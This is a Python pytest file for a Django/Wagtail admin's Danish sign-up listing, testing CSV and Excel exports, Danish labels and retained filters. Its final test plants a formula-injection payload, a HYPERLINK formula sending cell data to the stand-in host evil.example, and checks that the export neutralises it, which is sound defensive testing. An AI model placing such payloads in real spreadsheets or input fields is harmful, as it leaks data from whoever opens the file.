"""The procesleder downloads the sign-ups as Danish Excel opens them: a CSV file with ";" and the
byte-order mark, a workbook whose sheet and headings are Danish; the download buttons are in the
listing's header, in Danish, and take the listing's filters along."""

import datetime

import pytest
from django.test import Client

from activities.signups import SignUp
from tests.support.html import soup, text_of
from tests.support.showcase_activities import add_activity, days_ahead, sign_up
from tests.support.spreadsheets import HEADINGS, csv_rows, xlsx_sheets


def download(client, query: str) -> bytes:
    response = client.get(f"/admin/tilmeldinger/?{query}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.fixture
def signed_up(index, temadag):
    other = add_activity(index, "Seminar om ledelse", days_ahead(20), signup_enabled=True)
    for activity, name, email in (
        (temadag, "Mette Hansen", "meha@faxekommune.dk"),
        (temadag, "Jens Jensen", "jeje@faxekommune.dk"),
        (temadag, "Åse Ørsted", "aaoe@faxekommune.dk"),
        (other, "Ida", "ida@faxekommune.dk"),
    ):
        assert sign_up(Client(), activity, name=name, email=email).status_code == 302
    return {"temadag": temadag, "other": other}


@pytest.mark.django_db
def test_the_listing_shows_danish_download_buttons_that_keep_the_filters(
    procesleder_client, signed_up
):
    temadag = signed_up["temadag"]
    listing = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&status=waiting")
    assert listing.status_code == 200
    page = soup(listing)
    header = page.select_one("header")
    buttons = {a.get_text(strip=True): a["href"] for a in header.select("a.w-header-button")}
    assert buttons == {
        "Hent som Excel": f"/admin/tilmeldinger/?activity={temadag.pk}&status=waiting&export=xlsx",
        "Hent som CSV": f"/admin/tilmeldinger/?activity={temadag.pk}&status=waiting&export=csv",
    }
    # Not in a menu that must be opened first, and Wagtail's English labels are gone.
    for link in header.select("a.w-header-button"):
        assert link.find_parent(attrs={"data-w-dropdown-target": "content"}) is None
    assert "Download" not in text_of(listing)

    # Filters chosen on the page redraw the header from the results' address: the same links.
    results = procesleder_client.get(
        f"/admin/tilmeldinger/results/?activity={temadag.pk}&_w_filter_fragment=1"
    )
    assert f'href="/admin/tilmeldinger/?activity={temadag.pk}&amp;export=csv"' in (
        results.content.decode()
    )


@pytest.mark.django_db
def test_the_csv_file_opens_in_danish_excel_with_the_filters_applied(procesleder_client, signed_up):
    temadag = signed_up["temadag"]  # two seats: the third goes on the waiting list
    response = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="tilmeldinger.csv"' in response["Content-Disposition"]
    header, *rows = csv_rows(b"".join(response.streaming_content))
    assert header == HEADINGS
    assert {(row[0], row[2], row[6]) for row in rows} == {
        ("Temadag om samskabelse", "Mette Hansen", "Tilmeldt"),
        ("Temadag om samskabelse", "Jens Jensen", "Tilmeldt"),
        ("Temadag om samskabelse", "Åse Ørsted", "Venteliste"),
    }
    assert rows[0][1] == temadag.when  # "tirsdag 10. oktober 2017, kl. 9.00–15.00": one cell

    waiting = csv_rows(download(procesleder_client, "status=waiting&export=csv"))
    assert [row[2] for row in waiting[1:]] == ["Åse Ørsted"]


@pytest.mark.django_db
def test_the_excel_file_has_a_danish_sheet_and_headings_with_the_filters_applied(
    procesleder_client, signed_up
):
    temadag = signed_up["temadag"]
    response = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=xlsx")
    assert 'filename="tilmeldinger.xlsx"' in response["Content-Disposition"]
    sheets = xlsx_sheets(b"".join(response.streaming_content))
    assert list(sheets) == ["Tilmeldinger"]
    header, *rows = sheets["Tilmeldinger"]
    assert header == HEADINGS
    assert [(row[2], row[6]) for row in rows] == [
        ("Mette Hansen", "Tilmeldt"),
        ("Jens Jensen", "Tilmeldt"),
        ("Åse Ørsted", "Venteliste"),
    ]
    signed = SignUp.objects.get(name="Mette Hansen").created_local()
    assert isinstance(rows[0][7], datetime.datetime) and rows[0][7] == signed  # a real date

    other = signed_up["other"]
    only_ida = xlsx_sheets(download(procesleder_client, f"activity={other.pk}&export=xlsx"))
    assert [row[2] for row in only_ida["Tilmeldinger"][1:]] == ["Ida"]


@pytest.mark.django_db
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(procesleder_client, temadag):
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Klik")'
    SignUp.objects.create(
        activity=temadag, name=formula, email="a@faxe.dk", workplace="@SUM(1+1)", comment="-2+3"
    )
    header, row = csv_rows(download(procesleder_client, f"activity={temadag.pk}&export=csv"))
    assert (row[2], row[4], row[5]) == ("'" + formula, "'@SUM(1+1)", "'-2+3")
    assert row[3] == "a@faxe.dk"
    sheet = xlsx_sheets(download(procesleder_client, f"activity={temadag.pk}&export=xlsx"))
    assert sheet["Tilmeldinger"][1][2] == formula  # Excel: text, never a formula (Wagtail's)
